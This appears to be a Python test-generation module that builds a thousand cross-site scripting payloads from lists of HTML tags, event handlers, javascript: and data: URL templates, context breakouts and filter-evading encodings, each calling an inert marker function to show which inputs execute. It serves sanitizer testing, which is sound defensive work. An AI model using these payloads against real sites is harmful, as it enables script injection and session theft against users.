"""
A thousand texts that want to run in a page, made from a grammar: what is opened, what runs, how it is encoded, and what
it breaks out of. Each calls `ran(N)` with its number, so that one that runs is known.
"""

from __future__ import annotations

import base64
import itertools
import random
from collections.abc import Callable, Iterator

COUNT = 1000
CALL = "ran({number})"
TAGS = (
    "img src=x", "svg", "body", "iframe", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "select autofocus",
    "textarea autofocus", "object data=x", "math", "a href=x", "form", "button", "style", "link rel=stylesheet href=x", "isindex", "table",
    "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "x tabindex=1 id=x", "template", "noscript", "base href=//evil.example/",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onbegin", "onanimationstart", "onpointerenter", "onstart",
    "onpageshow", "oncopy", "onscrollend", "onbeforematch",
)  # fmt: skip
WHOLE = (
    "<script>{call}</script>", "<script src=data:text/javascript,{call}></script>", "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>", "<object data=javascript:{call}></object>", "<embed src=javascript:{call}>",
    "<a href=javascript:{call}>x</a>", "[x](javascript:{call})", "[x](<javascript:{call}>)", "![x](javascript:{call})", "[x]: javascript:{call}\n\n[x]",
    "<javascript:{call}>", "[x](data:text/html;base64,{code})", "<form action=javascript:{call}><button>x</button></form>", "{{constructor.constructor('{call}')()}}",
    "<svg><a xlink:href=javascript:{call}><text>x</text></a></svg>", "<math><mtext></mtext><script>{call}</script></math>", "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<svg><foreignObject><script>{call}</script></foreignObject></svg>", "<noscript><p title='</noscript><script>{call}</script>'>", "<base href=javascript:{call}//>",
    "<style>@import 'javascript:{call}';</style>", "<svg><script href=data:,{call} />", "<template><script>{call}</script></template>", "{% raw %}<script>{call}</script>",
    "`<script>{call}</script>`", "~~~\n</code></pre><script>{call}</script>\n~~~", "[a](https://x.example/\" onmouseover=\"{call})", "<https://x.example/\"onclick=\"{call}>",
)  # fmt: skip
BREAKOUTS = ("{0}", '">{0}', "'>{0}", "</title>{0}", "</textarea>{0}", "</pre>{0}", "--> {0}", "]]>{0}", "</svg>{0}", "</script>{0}", "\" {0} x=\"",
             "</text></g></svg>{0}", "</option></select>{0}", "</blockquote>{0}", "</summary></details>{0}")  # fmt: skip
Code = Callable[[str], str]
CODES: tuple[Code, ...] = (
    lambda text: text,
    lambda text: text.upper().replace("RAN({NUMBER})", CALL),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace("&#60;/", "&#x3c;/"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("javascript:", "java\tscript:"),
    lambda text: text.replace("javascript:", "&#106;avascript:"),
    lambda text: text.replace("script", "scr<b>ipt"),
    lambda text: text.replace("<", "<<"),
    lambda text: "+ADw-" + text.removeprefix("<") + "+AD4-",
)


def payloads() -> list[str]:
    """
    COUNT different texts, the same each time.
    """
    rng = random.Random(11)
    half = COUNT // 2
    chosen = [*rng.sample(list(dict.fromkeys(_marked())), half), *rng.sample(list(dict.fromkeys(_whole())), half)]
    return [one.replace("{number}", str(number)) for number, one in enumerate(chosen)]


def _marked() -> Iterator[str]:
    for tag, handler, (breakout, code) in itertools.product(TAGS, HANDLERS, _ways()):
        yield breakout.replace("{0}", code(f"<{tag} {handler}={CALL}>"))


def _whole() -> Iterator[str]:
    coded = base64.b64encode(b"<script>parent.ran(0)</script>").decode()
    for whole, (breakout, code) in itertools.product(WHOLE, _ways()):
        yield breakout.replace("{0}", code(whole.replace("{call}", CALL).replace("{code}", coded)))


def _ways() -> list[tuple[str, Code]]:
    return list(itertools.product(BREAKOUTS, CODES))
